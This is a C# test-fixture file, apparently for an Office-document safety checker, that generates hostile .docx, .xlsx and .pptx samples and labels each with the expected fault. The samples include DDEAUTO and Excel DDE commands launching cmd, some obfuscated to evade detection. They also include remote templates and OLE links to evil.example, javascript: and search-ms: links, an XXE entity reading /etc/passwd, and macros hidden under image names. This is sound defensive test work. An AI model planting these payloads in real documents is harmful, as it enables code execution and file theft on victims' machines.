using System.Text;
using SupervisionBot.Core.FileChecks;
using static Documents.Files.HostileFiles;

namespace Documents.Files;

/// <summary>Documents of Office that do something when they are opened, whatever their parts are called.</summary>
static class HostileOffice
{
    const string W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'";
    const string Begin = "<w:fldChar w:fldCharType='begin'/>";
    const string End = "<w:fldChar w:fldCharType='end'/>";

    static readonly string[] Links =
    [
        $"{Begin}<w:instrText>DDEAUTO c:\\\\cmd.exe \"/c calc\"</w:instrText>{End}",
        $"{Begin}<w:instrText xml:space='preserve'> dde </w:instrText><w:instrText>cmd</w:instrText>{End}",
        $"{Begin}<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAU</w:instrText></w:r><w:r><w:instrText>TO "
            + $"x</w:instrText></w:r><w:fldChar w:fldCharType='separate'/><w:t>1</w:t>{End}",
        $"{Begin}{Begin}<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>{End}<w:instrText> cmd</w:instrText>{End}",
        $"{Begin}<w:instrText>IF 1 = 1 </w:instrText>{Begin}<w:instrText>\"DDEAUTO\" cmd</w:instrText>{End}{End}",
        "<w:fldSimple w:instr='DDEAUTO cmd x'/>",
        "<w:fldSimple w:instr='&#9;d&#68;e cmd x'><w:t>1</w:t></w:fldSimple>",
        "<w:instrText>DDEAUTO cmd</w:instrText>",
    ];

    static readonly (string Kind, string Target, FileFault Fault)[] Relations =
    [
        ("attachedTemplate", "http://evil.example/t.dotm", FileFault.RemoteTemplate),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm", FileFault.RemoteTemplate),
        ("attachedTemplate", "file://evil.example/share/t.dotm", FileFault.RemoteTemplate),
        ("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm", FileFault.RemoteTemplate),
        ("attachedTemplate", " HTTPS://evil.example/t.dotm", FileFault.RemoteTemplate),
        ("subDocument", "http://evil.example/s.docx", FileFault.RemoteContent),
        ("image", "http://evil.example/i.png", FileFault.RemoteContent),
        ("image", "//evil.example/i.png", FileFault.RemoteContent),
        ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x", FileFault.RemoteContent),
        ("oleObject", "https://evil.example/x.html!", FileFault.RemoteContent),
        ("frame", "file:////evil.example/f.docx", FileFault.RemoteContent),
        ("externalLinkPath", "http://evil.example/b.xlsx", FileFault.RemoteContent),
        ("hyperlink", "javascript:alert(1)", FileFault.OddAddress),
        ("hyperlink", "search-ms:query=x", FileFault.OddAddress),
        ("aFChunk", "chunk.rtf", FileFault.InsertedFile),
        ("control", "activeX1.xml", FileFault.ActiveX),
        ("vbaProject", "other.bin", FileFault.Macros),
        ("xlMacrosheet", "sheet1.xml", FileFault.Macros),
    ];

    public static IEnumerable<(string Name, byte[] Bytes, FileFault Fault)> All()
    {
        foreach (var link in Links)
        {
            yield return ("report.docx", Docx(("word/footnotes.xml", Text($"<w:x {W}>{link}</w:x>"))), FileFault.DataLink);
            yield return (
                "report.docx",
                Docx(("word/notes2.xml", [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes($"<w:x {W}>{link}</w:x>")])),
                FileFault.DataLink
            );
            yield return (
                "report.docx",
                Docx(
                    (
                        "other",
                        [
                            .. Encoding.BigEndianUnicode.Preamble,
                            .. Encoding.BigEndianUnicode.GetBytes($"<a:x {W.Replace(":w", ":a")}>{link.Replace("w:", "a:")}</a:x>"),
                        ]
                    )
                ),
                FileFault.DataLink
            );
        }
        foreach (var (kind, target, fault) in Relations)
        {
            yield return ("report.docx", Docx(("word/_rels/settings.xml.rels", Relation(kind, target, "officeDocument/2006"))), fault);
            yield return (
                "report.docx",
                Docx(
                    (
                        "word/_rels/x.rels",
                        [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(Relation(kind, target, "purl.oclc.org")))]
                    )
                ),
                fault
            );
        }
        yield return (
            "report.docx",
            Docx(("word\\_rels\\settings.xml.rels", Relation("attachedTemplate", "http://evil.example/t.dotm"))),
            FileFault.RemoteTemplate
        );
        foreach (var address in (string[])["http://evil.example/p.png", "\\\\\\\\evil.example\\\\p.png"])
        foreach (var field in (string[])["INCLUDEPICTURE", "includetext", "LINK Excel.Sheet.12"])
            yield return (
                "report.docx",
                Docx(("word/header9.xml", Text($"<w:x {W}><w:fldSimple w:instr='{field} \"{address}\" \\d'/></w:x>"))),
                FileFault.RemoteContent
            );
        yield return (
            "hours.xlsx",
            Xlsx(("xl/links/a.xml", Text("<externalLink xmlns='x'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"))),
            FileFault.DataLink
        );
        yield return ("hours.xlsx", Xlsx(("xl/worksheets/sheet1.xml", Text("<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"))), FileFault.DataLink);
        yield return ("hours.xlsx", Xlsx(("xl/sheet9.xml", Text("<xm:macrosheet xmlns:xm='x'/>"))), FileFault.Macros);
        yield return ("report.docx", Docx(("word/x.xml", Text($"<w:x {W}><w:altChunk/></w:x>"))), FileFault.InsertedFile);
        yield return ("report.docx", Docx(("word/activeX9.xml", Text("<ax:ocx xmlns:ax='x'/>"))), FileFault.ActiveX);
        yield return ("slides.pptx", Pptx(1, ("ppt/x.xml", Text("<a:hlinkClick xmlns:a='x' action='ppaction://program'/>"))), FileFault.Launch);
        yield return (
            "report.docx",
            Docx(("word/x.xml", Text("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"))),
            FileFault.Declarations
        );
        yield return (
            "report.docx",
            Docx(("customXml/item1.xml", [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes("<!DOCTYPE x><x/>")])),
            FileFault.Declarations
        );
        yield return ("report.docx", Docx(("word/x.xml", Text("<w:p>"))), FileFault.Damaged);
        // Macros and objects, under any name.
        byte[] macros = [.. OldOffice, .. Encoding.Unicode.GetBytes("_VBA_PROJECT")];
        yield return ("report.docx", Docx(("word/media/image1.png", macros)), FileFault.Macros);
        yield return (
            "report.docx",
            Docx(("word/embeddings/oleObject1.bin", [.. OldOffice, .. Encoding.Unicode.GetBytes("VisioDocument")])),
            FileFault.EmbeddedObject
        );
        yield return ("report.docx", Docx(("word/a.dat", [.. OldOffice])), FileFault.EmbeddedObject);
        yield return ("report.docx", Docx(("word/a.dat", Text("{\\rtf1}"))), FileFault.EmbeddedObject);
        yield return ("report.docx", Docx(("word/a.dat", Zip(("x.txt", Text("x"))))), FileFault.EmbeddedObject);
        yield return ("report.docx", Docx(("word/embeddings/sheet.xlsx", Xlsx(("xl/vbaProject.bin", macros)))), FileFault.Macros);
        yield return (
            "report.docx",
            Docx(("word/embeddings/sheet.xlsx", Xlsx(("xl/media/x.dat", Docx(("word/x.xml", Text($"<w:x {W}><w:altChunk/></w:x>"))))))),
            FileFault.InsertedFile
        );
        yield return ("report.docx", Office("word/document2.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), FileFault.Macros);
    }
}
